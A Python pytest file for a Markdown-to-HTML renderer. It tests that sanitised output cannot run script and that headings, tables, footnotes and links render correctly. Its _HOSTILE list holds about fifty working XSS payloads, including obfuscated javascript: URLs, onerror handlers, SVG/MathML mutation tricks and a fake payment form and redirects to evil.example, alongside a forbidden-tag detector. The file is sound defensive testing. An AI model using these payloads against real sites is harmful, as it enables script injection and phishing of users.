"""Markdown to HTML that cannot run anything, with headings and links found on the way."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from indexer.markdown import Link, Rendered, relative_target, render
from search.types import Heading


def _render(text: str, known: dict[str, str] | None = None) -> Rendered:
    return render(text, resolve=(known or {}).get)


def _harm(html: str) -> list[str]:
    """What a browser would make of the HTML that must not be there; parsed, not matched."""
    found: list[str] = []
    for node in LexborHTMLParser(f"<!doctype html><body>{html}").css("body *"):
        if node.tag in _FORBIDDEN:
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            # As the URL standard has it: tabs and line ends go, and what stands before the scheme.
            folded = re.sub(r"[\t\r\n]", "", value or "").lstrip(_CONTROLS).casefold()
            if name.startswith("on") or name in ("style", "srcdoc", "src", "formaction", "srcset"):
                found.append(f"{name}={value}")
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", folded)
            if name == "href" and scheme and scheme[0] not in ("http:", "https:"):
                found.append(f"{name}={value}")
            if name == "id" and node.tag not in ("h2", "h3", "h4", "li", "sup"):
                found.append(f"id on {node.tag}")
    return found


_CONTROLS = "".join(map(chr, range(0x21)))
_FORBIDDEN = {
    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button",
    "img", "video", "audio", "link", "meta", "base", "template", "noscript", "textarea", "select",
    "frame", "frameset", "applet", "marquee", "title", "h1",
}  # fmt: skip

_HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<p onclick='alert(1)' onmouseover=alert(1)>text</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x></object><embed src=x>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class='x' style='background:url(javascript:alert(1))'>x</div>",
    "## Heading {onclick=alert(1) style=color:red}",
    "Text.\n{: onclick=alert(1) style=color:red }",
    "[x](http://a.example){onclick=alert(1)}",
    "<form action=//evil.example><input name=card><button>Pay</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "## <script>alert(1)</script> title",
    "## <img src=x onerror=alert(1)> title",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "!!! note \"<script>alert(1)</script>\"\n    <img src=x onerror=alert(1)>",
    "Text[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[ABC]: \"><script>alert(1)</script>\n\nABC",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<p id=searchbox>clobber</p>",
]  # fmt: skip


@pytest.mark.parametrize("text", _HOSTILE)
def test_nothing_hostile_survives(text: str) -> None:
    assert _harm(_render(text).html) == []
    assert _harm(_render(f"Before.\n\n{text}\n\nAfter.").html) == []


def test_the_detector_of_harm_sees_harm() -> None:
    assert _harm("<p onclick=x style=y><a href='java\tscript:1'>x</a><script></script></p>") == [
        "onclick=x", "style=y", "href=java\tscript:1", "<script>",
    ]  # fmt: skip


@given(
    st.lists(
        st.sampled_from(_HOSTILE)
        | st.sampled_from(
            ["<", ">", '"', "'", "`", "&", "\n", "\n\n", "    ", "- ", "> ", "|", "<!--"]
        )
        | st.sampled_from(
            ["</", "<a href=", "javascript:", "<img ", "onerror=", "[", "](", ")", "{:"]
        )
        | st.text(max_size=6),
        max_size=10,
    ).map("".join)
)
@settings(max_examples=250, deadline=None)
def test_no_mixture_of_hostile_fragments_survives(text: str) -> None:
    rendered = _render(text)
    assert _harm(rendered.html) == []


def test_code_is_shown_as_written() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in _render("`<script>alert(1)</script>`").html


def test_text_around_removed_markup_stays() -> None:
    html = _render("One <script>alert(1)</script>two <b>three</b>.").html
    assert LexborHTMLParser(html).text(separator="") == "One two three."


# --- what authors use


def test_a_wide_table_scrolls_within_a_box_that_the_keyboard_reaches() -> None:
    html = _render("Text.\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\nMore.").html
    tree = LexborHTMLParser(html)
    (box,) = tree.css("div.table-scroll")
    assert box.attributes == {"class": "table-scroll", "tabindex": "0"}
    assert [cell.text() for cell in tree.css("div.table-scroll > table th, td")] == list("ab12")
    assert html.index("Text.") < html.index("table-scroll") < html.index("More.")


def test_every_table_has_one_box_wherever_it_stands() -> None:
    table = "| a |\n|---|\n| 1 |\n"
    inner = "\n".join("    " + line for line in table.splitlines())
    html = _render(f"{table}\n!!! note\n{inner}\n\n- item\n\n{inner}\n").html
    tree = LexborHTMLParser(html)
    assert len(tree.css("table")) == 3
    assert len(tree.css("div.table-scroll > table")) == 3
    assert len(tree.css(".table-scroll")) == 3


@pytest.mark.parametrize("kind", ["note", "tip", "warning", "important"])
def test_admonitions_keep_their_kind_and_title(kind: str) -> None:
    html = _render(f'!!! {kind} "Mind this"\n    The *text*.').html
    box = LexborHTMLParser(html).css_first(f"div.admonition.{kind}")
    assert box is not None
    assert box.css_first("p.admonition-title").text() == "Mind this"
    assert box.css_first("em").text() == "text"


def test_classes_that_are_not_ours_are_dropped() -> None:
    assert "modal" not in _render("<div class='modal note'>x</div>").html


def test_footnotes_link_there_and_back() -> None:
    tree = LexborHTMLParser(_render("Five days.[^1]\n\n[^1]: Working days.").html)
    reference = tree.css_first("a.footnote-ref")
    back = tree.css_first("a.footnote-backref")
    note = tree.css_first("li")
    assert reference.attributes["href"] == f"#{note.attributes['id']}"
    assert back.attributes["href"] == f"#{tree.css_first('sup').attributes['id']}"
    assert note.text().startswith("\nWorking days.")
    assert back.text() == "\u21a9\ufe0e"


def test_headings_are_given_with_level_anchor_and_title_in_order() -> None:
    rendered = _render(
        "## By card {#card}\n\na\n\n### 退款 时间\n\nb\n\n#### Deep\n\nc\n\n## By card\n\nd\n"
    )
    assert rendered.headings == (
        Heading(2, "card", "By card"),
        Heading(3, "退款-时间", "退款 时间"),
        Heading(4, "deep", "Deep"),
        Heading(2, "by-card", "By card"),
    )
    ids = [node.attributes["id"] for node in LexborHTMLParser(rendered.html).css("h2, h3, h4")]
    assert ids == ["card", "退款-时间", "deep", "by-card"]


def test_equal_headings_get_anchors_of_their_own() -> None:
    anchors = [heading.anchor for heading in _render("## A\n\nx\n\n## A\n\ny\n\n## A\n").headings]
    assert len(set(anchors)) == 3


@pytest.mark.parametrize(
    ("written", "title"),
    [
        ("Returns & refunds", "Returns & refunds"),
        ("Under &lt; 5 days", "Under < 5 days"),
        ("*How* `long` [it](https://a.example) takes", "How long it takes"),
        ("Days[^1]", "Days"),
        ("“退款”怎么办？", "“退款”怎么办？"),
    ],
)
def test_a_heading_title_is_plain_text(written: str, title: str) -> None:
    (heading,) = _render(f"## {written}\n\ntext\n\n[^1]: note\n").headings
    assert heading.title == title


# --- links


def test_article_links_point_to_the_page_and_keep_their_anchor() -> None:
    rendered = _render(
        "[a](b.md) and [c](../returns/d.md#e 'T').",
        {"b.md": "/en/refunds/b", "../returns/d.md": "/en/returns/d"},
    )
    tree = LexborHTMLParser(rendered.html)
    assert [a.attributes.get("href") for a in tree.css("a")] == [
        "/en/refunds/b",
        "/en/returns/d#e",
    ]
    assert rendered.links == (Link("b.md"), Link("../returns/d.md#e"))


def test_a_dead_link_stays_as_text_and_is_told() -> None:
    rendered = _render("See [the *other* page](none.md#x).")
    (link,) = LexborHTMLParser(rendered.html).css("a")
    assert "href" not in link.attributes
    assert link.text() == "the other page"
    assert rendered.links == (Link("none.md#x"),)


def test_links_elsewhere_are_left_alone_and_those_within_the_page_are_told() -> None:
    rendered = _render("[a](https://e.example/x.md) [b](/static/y.pdf) [c](#card)")
    tree = LexborHTMLParser(rendered.html)
    assert [a.attributes["href"] for a in tree.css("a")] == [
        "https://e.example/x.md",
        "/static/y.pdf",
        "#card",
    ]
    assert rendered.links == (Link("#card"),)


def test_footnotes_are_no_links_of_the_author() -> None:
    assert _render("a[^1]\n\n[^1]: b").links == ()


def test_links_to_other_sites_do_not_hand_over_the_window() -> None:
    assert 'rel="noopener"' in _render("[a](https://e.example)").html


@pytest.mark.parametrize(
    ("source", "target", "path"),
    [
        ("en/refunds/a.md", "b.md", "en/refunds/b.md"),
        ("en/refunds/a.md", "../returns/b.md", "en/returns/b.md"),
        ("en/refunds/a.md", "../../zh-Hans/refunds/a.md", "zh-Hans/refunds/a.md"),
        ("en/refunds/a.md", "./b.md", "en/refunds/b.md"),
    ],
)
def test_relative_target(source: str, target: str, path: str) -> None:
    assert relative_target(source, target) == path


def test_each_article_is_rendered_as_if_it_were_the_first() -> None:
    text = "## A\n\nx[^1]\n\n[^1]: note\n"
    assert _render(text) == _render(text)
